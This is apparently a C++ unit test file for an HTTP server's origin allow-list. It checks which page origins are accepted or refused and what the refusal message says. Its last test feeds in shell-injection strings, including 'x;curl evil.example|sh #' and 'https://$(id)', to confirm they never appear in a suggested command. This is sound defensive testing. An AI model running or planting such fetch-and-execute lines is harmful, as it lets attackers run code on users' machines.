#include "http/origins.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <string>

namespace parley::http {
namespace {

using testing::HasSubstr;

constexpr const char* host = "rooms.example:8443";

TEST(HttpOrigins, pages_of_the_hosts_own_name_may_use_it) {
  const Origins origins({});
  for (const char* origin : {"https://rooms.example:8443", "https://rooms.example", "http://rooms.example",
                             "https://Rooms.Example:1"})
    EXPECT_TRUE(origins.allow(origin, host)) << origin;
  EXPECT_TRUE(origins.allow("https://rooms.example:8443", "rooms.example"))
      << "a proxy may leave out the port";
  EXPECT_TRUE(origins.allow("http://[2001:db8::1]:8080", "[2001:db8::1]:8080"));
  EXPECT_TRUE(origins.allow("http://192.0.2.1", "192.0.2.1:80"));
}

TEST(HttpOrigins, pages_of_this_machine_may_and_so_may_who_is_none) {
  const Origins origins({});
  for (const char* origin : {"http://localhost", "http://localhost:5173", "https://127.0.0.1:8443",
                             "http://[::1]:3000", "capacitor://localhost", ""})
    EXPECT_TRUE(origins.allow(origin, host)) << origin;
}

TEST(HttpOrigins, pages_of_others_may_not) {
  const Origins origins({"https://app.example"});
  for (const char* origin :
       {"https://evil.example", "https://rooms.example.evil", "https://evil.rooms.example",
        "https://rooms.exampl", "https://localhost.evil", "http://127.0.0.1.evil", "http://[::1].evil",
        "http://128.0.0.1", "null", "*", "rooms.example", "https://", "://rooms.example@evil",
        "chrome-extension://abcdef", "http://[2001:db8::1]"})
    EXPECT_FALSE(origins.allow(origin, host)) << origin;
  for (const char* nobody : {"https://", "https://[::1", "https://:80"})
    EXPECT_FALSE(origins.allow(nobody, "")) << nobody;
  EXPECT_FALSE(origins.allow("http://[2001:db8::1]", "[2001:db8::2]"));
}

TEST(HttpOrigins, pages_of_those_that_are_named_may_just_as_they_are_named) {
  const Origins origins({"https://app.example", "null"});
  EXPECT_TRUE(origins.allow("https://app.example", host));
  EXPECT_TRUE(origins.allow("https://APP.example", host));
  EXPECT_TRUE(origins.allow("null", host));
  EXPECT_FALSE(origins.allow("http://app.example", host));
  EXPECT_FALSE(origins.allow("https://app.example:444", host));
  EXPECT_TRUE(Origins({"*"}).allow("https://evil.example", host));
}

TEST(HttpOrigins, pages_that_hide_theirs_are_known_by_their_browsers_word) {
  const Origins origins({"https://app.example"});
  EXPECT_FALSE(origins.allow("", host, "cross-site"));
  for (const char* site : {"", "same-origin", "same-site", "none"})
    EXPECT_TRUE(origins.allow("", host, site)) << site;
  EXPECT_TRUE(Origins({"*"}).allow("", host, "cross-site"));
}

TEST(HttpOrigins, are_named_as_browsers_write_them) {
  for (const char* text : {"*", "null", "https://app.example", "http://localhost:5173", "http://[::1]:80",
                           "capacitor://localhost"})
    EXPECT_TRUE(is_origin(text)) << text;
  for (const char* text : {"", "app.example", "https://", "https://app.example/", "https://app.example/page",
                           "https://*.example", "https://a b", "://app.example", "https://me@app.example"})
    EXPECT_FALSE(is_origin(text)) << text;
}

TEST(HttpOrigins, who_is_refused_is_told_what_to_do) {
  EXPECT_THAT(refusal_of("https://app.example"), HasSubstr("--allow-origin https://app.example if"));
  // What a shell would take for something else is in no command that somebody may paste.
  for (const char* odd : {"null", "*", "x;curl evil.example|sh #", "https://$(id)", "https://a b"})
    EXPECT_THAT(refusal_of(odd), testing::Not(HasSubstr("--allow-origin"))) << odd;
  EXPECT_LT(refusal_of("https://" + std::string(10'000, 'x')).size(), 1'000U);
}

}  // namespace
}  // namespace parley::http
